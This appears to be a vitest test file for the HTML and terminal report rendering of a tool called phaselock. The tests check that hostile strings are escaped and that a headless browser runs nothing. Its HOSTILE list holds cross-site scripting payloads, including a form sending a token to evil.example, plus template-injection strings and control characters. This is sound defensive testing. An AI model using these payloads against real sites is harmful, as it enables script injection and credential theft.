import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Report, TaskReport } from 'phaselock/sdk'
import { afterAll, describe, expect, it } from 'vitest'
import { RunWalk } from '../../src/app/reports/report-council.js'
import { reportPage } from '../../src/cli/report/report-html.js'
import { html, type Markup } from '../../src/cli/report/report-markup.js'
import { reportText } from '../../src/cli/report/report-text.js'
import type { JsonObject } from '../../src/core/json.js'
import { Council, call, vote } from '../core/rounds/council.js'

const dir = mkdtempSync(join(tmpdir(), 'phaselock-page-'))
afterAll(() => rmSync(dir, { recursive: true, force: true }))

// Each would run, load or open something, were it taken for markup.
const HOSTILE = [
  '</script><script>document.title="owned"</script>',
  '"><img src=x onerror="document.title=\'owned\'">',
  "' onmouseover='document.title=1' x='",
  '</pre></svg></style></title><iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<![CDATA[ ]]><!-- --><a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><input name=token></form>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what a template would look for.
  '{{constructor.constructor("x")()}} ${x} {b|x} `x`',
  '\u001b[31m\u202e\u0000 &lt;b&gt; &#60;b&#62;',
].join('\n')

function hostileRun(): Report {
  const council = new Council()
  council.turn('a')
  council.respond('a', [call(HOSTILE)])
  council.answer('a', HOSTILE)
  council.turn('b')
  council.respond('b', [vote(HOSTILE)])
  council.respond('b', [vote('agent1', HOSTILE)])
  council.do({ type: 'agent_failed', agent: 'a', message: HOSTILE })
  const walk = new RunWalk()
  for (const event of council.events) walk.add(event)
  const report = walk.view(council.now) ?? {}
  const bad = { agent: HOSTILE, reason: HOSTILE, phase: HOSTILE, round: 1, count: 2 }
  const agents = (report.agents as readonly JsonObject[]).map((one) => ({ ...one, id: HOSTILE, anonymous_id: HOSTILE }))
  return {
    ...report,
    run: { ...(report.run as JsonObject), id: HOSTILE, title: HOSTILE, finish_reason_details: HOSTILE },
    agents,
    refusals: { count: 2, by_reason: [{ reason: HOSTILE, count: 2 }], rows: [bad] },
    timeline: [{ seconds: 1, agent: HOSTILE, round: 1, type: 'vote_cast', what: HOSTILE }],
  } as unknown as Report
}

function hostileTask(): Report {
  const tokens = { input: 1, output: 1, cache_read: 0, cache_write: 0, grade: 'observed' }
  const part = { phase: HOSTILE, visits: 1, seconds: 3, tokens, tool_calls: 1, interrupts: 0, refusals: 1 }
  return {
    run: { id: HOSTILE, kind: 'task', title: HOSTILE, status: HOSTILE, elapsed_seconds: 3 },
    at: HOSTILE,
    agents: [],
    phases: [part],
    visits: [{ ...part, visit: 1, entered_at: '2026-01-01T00:00:00Z', left_at: null }],
    totals: part,
    refusals: { count: 0, by_reason: [], rows: [] },
    evidence: [],
    gates: { passed: 1, blocked: 1, pass_rate: 0.5, by_gate: [{ gate: HOSTILE, passed: 1, blocked: 1 }] },
    ...{ buffer_chars_lost: 0, events: 3, truncated: true },
  } as unknown as Report
}

const MADE_HERE: ReadonlySet<string> = new Set(
  [
    'html head meta title style body header p h1 main dl div dt dd section h2 figure figcaption ul li span',
    'svg g rect path text defs clippath pre details summary table thead tbody tr th td footer',
  ]
    .join(' ')
    .split(' '),
)

function elementsOf(page: string): readonly string[] {
  return [...page.matchAll(/<([a-zA-Z!][a-zA-Z0-9-]*)/g)].map(([, name]) => (name ?? '').toLowerCase())
}

const PAGES = [
  ['coordination', hostileRun],
  ['task', hostileTask],
] as const

describe('the page of a report', () => {
  it.each(PAGES)(
    '[REQ-RUNREPORT-7] hostile texts of a %s become no element, no attribute and no address',
    (_, report) => {
      const page = reportPage(report())
      expect(elementsOf(page).filter((name) => !MADE_HERE.has(name) && name !== '!doctype')).toEqual([])
      expect(page).not.toMatch(/<[^>]*\son\w+=/i)
      expect(page).not.toMatch(/<[^>]*\b(src|href|action)=/i)
      expect(page).not.toMatch(/@import|url\(/i)
      expect(page).toContain('&lt;/script&gt;&lt;script&gt;')
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are looked for.
      expect(page).not.toMatch(/[\u0000\u001b\u202e]/)
    },
  )

  it('[REQ-RUNREPORT-7] only markup passes for markup', () => {
    expect(html`<b title="${'"><i>'}">${"<i>&'`"}</b>${null}${undefined}${3}${[html`<i>`, html`x`]}`.text).toBe(
      '<b title="&quot;&gt;&lt;i&gt;">&lt;i&gt;&amp;&#39;&#96;</b>3<i>x',
    )
    const looksLikeOne = { text: '<i>' } as unknown as Markup
    expect(html`${looksLikeOne}`.text).not.toContain('<i>')
  })

  it.skipIf(chromium() === null)(
    '[REQ-RUNREPORT-7] a browser finds only our own markup in it, and runs nothing',
    () => {
      for (const [name, report] of PAGES) {
        const file = join(dir, `${name}.html`)
        writeFileSync(file, reportPage(report()))
        const done = spawnSync(
          chromium() ?? '',
          [
            ...['--headless=new', '--no-sandbox', '--disable-gpu', `--user-data-dir=${join(dir, 'profile')}`],
            ...['--virtual-time-budget=2000', '--dump-dom', `file://${file}`],
          ],
          { encoding: 'utf8', timeout: 60_000 },
        )
        expect(done.stdout).toContain('</html>')
        expect(elementsOf(done.stdout).filter((one) => !MADE_HERE.has(one) && one !== '!doctype')).toEqual([])
        expect(done.stdout).not.toMatch(/<[^>]*\s(on\w+|src|href|action)=/i)
        expect(done.stdout).not.toContain('<title>owned')
        expect(done.stdout).toContain('<figure>')
      }
    },
  )

  it('[REQ-RUNREPORT-8] the page needs nothing else, runs nothing, and has plots for light and dark', () => {
    const page = reportPage(hostileTask())
    expect(page).toContain('default-src &#39;none&#39;; style-src &#39;unsafe-inline&#39;')
    expect(page).toContain('prefers-color-scheme: dark')
    expect(page.match(/<svg /g)?.length).toBe(4)
    expect(page).toContain('fill="var(--c1)"')
    expect(page).not.toMatch(/(fill|stroke)="#/)
  })

  it('[REQ-RUNREPORT-8] more agents than there are colours are drawn together', () => {
    const rows = Array.from({ length: 40 }, (_, at) => ({
      agent: `a${at}`,
      reason: 'x',
      phase: 'p',
      round: at,
      count: 1,
    }))
    const page = reportPage({
      ...hostileTask(),
      refusals: { count: 40, by_reason: [{ reason: 'x', count: 40 }], rows },
    })
    expect(page).toContain('others')
    expect(page).not.toContain('var(--c9)')
  })
})

describe('the text of a report', () => {
  it.each(PAGES)('[REQ-RUNREPORT-9] the text of a %s moves no terminal and fits it', (_, report) => {
    const text = reportText(report())
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are looked for.
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
    expect(text).toContain('REFUSED')
  })
})

it('[REQ-READS-8] the text of a task counts gate requests and visits to a phase, and says who approved', () => {
  const hostile = hostileTask() as TaskReport
  const visit = (phase: string, number: number) => ({ ...hostile.visits[0], phase, visit: number })
  const report = {
    ...hostile,
    visits: [visit('PLAN', 1), visit('TDD', 2), visit('IMPL', 3), visit('TDD', 4)],
    refusals: {
      count: 3,
      by_reason: [],
      rows: [
        { agent: 'a', reason: 'invalid_artifact', phase: 'TDD', round: 2, count: 2 },
        { agent: 'a', reason: 'check_failed', phase: 'TDD', round: 4, count: 1 },
      ],
    },
    gates: { passed: 5, blocked: 1, pass_rate: 5 / 6, by_gate: [{ gate: 'tests_written', passed: 1, blocked: 1 }] },
    approvals: [
      {
        ...{ phase: 'PLAN', target_phase: 'TDD', gate: 'plan_approval', decision: 'approve', by: 'admin' },
        ...{ channel: 'in_chat', at: '2026-11-18T05:40:12.000Z' },
      },
    ],
  } as unknown as TaskReport
  const text = reportText(report, { changes: { files: 2, additions: 40, deletions: 1 } })
  expect(text).not.toContain('%')
  expect(text).toContain('5 of 6 requests to go on were granted')
  expect(text).toMatch(/invalid_artifact +a +TDD +1$/m)
  expect(text).toMatch(/check_failed +a +TDD +2$/m)
  expect(text).toMatch(/^approved +plan_approval +admin +in the chat +2026-11-18 05:40:12Z$/m)
  expect(text).toContain('2 files, +40 -1')
})

function chromium(): string | null {
  return (
    ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) => existsSync(path)) ??
    null
  )
}
